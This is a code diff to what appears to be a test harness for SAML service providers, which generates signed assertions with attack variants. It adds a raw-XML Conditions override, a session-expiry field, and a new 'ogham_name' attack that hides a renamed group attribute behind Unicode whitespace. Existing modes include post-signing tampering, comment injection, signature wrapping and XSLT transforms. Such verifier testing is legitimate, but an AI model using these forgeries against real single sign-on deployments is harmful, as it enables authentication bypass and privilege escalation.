@@ -19,7 +19,9 @@ SPEC (every key optional except keys/acs/sp/idp):
   Overrides of what goes in:   destination, recipient, audience, issuer, response_issuer,
                                status, not_before, not_on_or_after, scd_not_on_or_after
                                (times as seconds relative to `now`), no_audience (bool),
-                               scd_in_response_to (default = in_response_to)
+                               scd_in_response_to (default = in_response_to),
+                               condition (raw XML appended inside Conditions),
+                               session_not_on_or_after (AuthnStatement's, relative seconds)
   attack      applied to the signed XML, by exact text operations:
     tamper            change the NameID after signing
     comment_nameid    put <!----> inside the NameID (the signature still verifies)
@@ -31,6 +33,10 @@ SPEC (every key optional except keys/acs/sp/idp):
                       assertion nested in that signature's ds:Object
     remote_reference  the assertion's Reference URI pointed at `remote`
     xslt              an XSLT transform added to the assertion's Reference
+    ogham_name        the element holding the first value of the "groups" attribute
+                      renamed to saml:AttributeValue + U+1680 + "X" (U+1680 is Unicode
+                      whitespace and an XML name character): a canonicalizer that ends
+                      names at Unicode whitespace still sees the signed name
 """
 import base64
 import json
@@ -86,6 +92,8 @@ def assertion_xml(spec, aid, sig):
         vals = "".join(f'<saml:AttributeValue xsi:type="xs:string">{escape(v)}</saml:AttributeValue>' for v in values)
         attrs += (f'\n      <saml:Attribute Name="{escape(name)}"{fn} '
                   f'NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">{vals}</saml:Attribute>')
+    session_end = (f' SessionNotOnOrAfter="{rel("session_not_on_or_after", 0)}"'
+                   if "session_not_on_or_after" in spec else "")
     audience = "" if spec.get("no_audience") else (
         f'<saml:AudienceRestriction><saml:Audience>{escape(spec.get("audience", spec["sp"]))}'
         '</saml:Audience></saml:AudienceRestriction>')
@@ -97,8 +105,8 @@ def assertion_xml(spec, aid, sig):
         <saml:SubjectConfirmationData NotOnOrAfter="{rel("scd_not_on_or_after", 300)}" Recipient="{escape(spec.get("recipient", spec["acs"]))}"{scd_irt_attr}/>
       </saml:SubjectConfirmation>
     </saml:Subject>
-    <saml:Conditions NotBefore="{rel("not_before", -60)}" NotOnOrAfter="{rel("not_on_or_after", 300)}">{audience}</saml:Conditions>
-    <saml:AuthnStatement AuthnInstant="{iso(now)}" SessionIndex="{aid}">
+    <saml:Conditions NotBefore="{rel("not_before", -60)}" NotOnOrAfter="{rel("not_on_or_after", 300)}">{audience}{spec.get("condition", "")}</saml:Conditions>
+    <saml:AuthnStatement AuthnInstant="{iso(now)}" SessionIndex="{aid}"{session_end}>
       <saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext>
     </saml:AuthnStatement>
     <saml:AttributeStatement>{attrs}
@@ -197,6 +205,13 @@ def attack(xml, spec, aid):
         return xml[:start] + wrapper + xml[end:]
     if kind == "remote_reference":
         return xml.replace(f'URI="#{aid}"', f'URI="{escape(spec["remote"])}"', 1)
+    if kind == "ogham_name":
+        groups = xml.index('Name="groups"')
+        open_at = xml.index("<saml:AttributeValue", groups)
+        close_at = xml.index("</saml:AttributeValue>", open_at)
+        renamed = "saml:AttributeValue\u1680X"
+        return (xml[:open_at] + "<" + renamed + xml[open_at + len("<saml:AttributeValue"):close_at]
+                + "</" + renamed + ">" + xml[close_at + len("</saml:AttributeValue>"):])
     if kind == "xslt":
         xslt = ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
                 '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></ds:Transform>')
